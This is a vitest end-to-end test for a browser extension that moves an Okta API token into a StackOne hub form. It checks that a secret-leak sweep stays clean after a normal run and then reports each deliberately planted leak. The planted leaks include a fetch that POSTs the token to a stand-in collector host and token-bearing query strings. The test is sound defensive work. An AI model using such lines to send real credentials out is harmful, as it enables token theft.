import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { browser as Browser } from 'wxt/browser';
import { startWorld, type World } from './support/env';
import { pasteTokenInPopup, serviceWorkerOf, tabIdOf } from './support/extension';

/*
 * The sweep every e2e test ends with (support/secrets.ts, run by useWorld) must be able to fail: after a
 * clean journey it finds nothing, and each kind of leak it looks for is reported once planted.
 */

declare const chrome: typeof Browser;

const TOKEN = '00SweepTestToken_abcdefghijklmnopqrstuvwxy';

describe('the token sweep run after every e2e test', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld();
  });
  afterAll(() => world?.close());

  it('finds nothing after the hub took the token, then reports each planted leak', async () => {
    world.secrets.add(TOKEN);
    const okta = await world.open('http://acme-admin.okta.com/admin/dashboard');
    const oktaPopup = await world.popupFor(okta);
    await pasteTokenInPopup(oktaPopup, TOKEN);
    await oktaPopup.getByTestId('masked-token').waitFor();

    const hubPage = await world.open(world.hub.urls.embedded());
    await hubPage.locator('stackone-hub form input').first().waitFor({ timeout: 20_000 });
    const hubPopup = await world.popupFor(hubPage);
    await hubPopup.getByRole('button', { name: 'Fill hub form' }).click();
    await expect.poll(() => hubPopup.getByTestId('fill-result').textContent()).toMatch(/^Filled /);
    // Before the hub's Connect the form holds the token, as it must; the sweep only asks once it is taken.
    expect(await world.secrets.findLeaks()).toEqual([]);
    await hubPage.bringToFront();
    await hubPage.getByRole('button', { name: 'Connect', exact: true }).click();
    await expect.poll(() => hubPage.locator('#hub-status').textContent()).toMatch(/^Connected: acc_/);
    expect(world.hub.accounts[0]?.credentials).toMatchObject({ api_token: TOKEN });
    expect(await world.secrets.findLeaks()).toEqual([]);

    await hubPage.evaluate((token) => {
      document.body.dataset.kept = token;
    }, TOKEN);
    await okta.evaluate((token) => {
      console.info(`token ${token}`);
      return fetch(`/api/v1/users/me?token=${token}`).then((response) => response.status);
    }, TOKEN);
    await hubPage.evaluate(
      ([token, backend]) => fetch(`${backend}/hub/settings?token=${token}`).catch(() => null),
      [TOKEN, world.hub.backendOrigin],
    );
    await hubPage.evaluate(
      (token) => fetch('http://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
      TOKEN,
    );
    await okta.evaluate((token) => {
      document.body.append(Object.assign(document.createElement('okta-link-assistant'), { title: token }));
    }, TOKEN);
    await oktaPopup.evaluate((token) => document.body.append(token), TOKEN);
    const worker = await serviceWorkerOf(world.context);
    await worker.evaluate((token) => chrome.storage.local.set({ kept: token }), TOKEN);
    // A line from a content script's isolated world, where the guide and the hub filler run.
    const oktaTab = await tabIdOf(world.context, okta);
    await worker.evaluate(
      ([tabId, token]) =>
        chrome.scripting.executeScript({
          target: { tabId },
          world: 'ISOLATED',
          func: (value: string) => console.warn(`isolated ${value}`),
          args: [token],
        }),
      [oktaTab, TOKEN] as const,
    );

    const leaks = (await world.secrets.findLeaks()).join('\n');
    expect(leaks).toMatch(/^hub page .* holds 00Sw…vwxy/m);
    expect(leaks).toMatch(/^console: .*token 00Sweep/m);
    expect(leaks).toMatch(/^console: .*isolated 00Sweep/m);
    expect(leaks).toMatch(/^Okta request GET acme-admin\.okta\.com\/api\/v1\/users\/me\?token=/m);
    expect(leaks).toMatch(/^hub request GET \/hub\/settings\?token=/m);
    expect(leaks).toMatch(/^browser request GET http:\/\/127\.0\.0\.1:\d+\/hub\/settings\?token=/m);
    expect(leaks).toMatch(/^browser request POST http:\/\/collector\.invalid\//m);
    expect(leaks).toMatch(/^guide overlay on http:\/\/acme-admin\.okta\.com/m);
    expect(leaks).toMatch(/^extension page chrome-extension:\/\/.*popup\.html/m);
    expect(leaks).toMatch(/^storage\.local holds/m);
    // The link request itself carries it, in its credentials: that is where it belongs.
    expect(leaks).not.toMatch(/POST \/hub\/accounts|POST http:\/\/127\.0\.0\.1:\d+\/hub\/accounts/);
  });
});
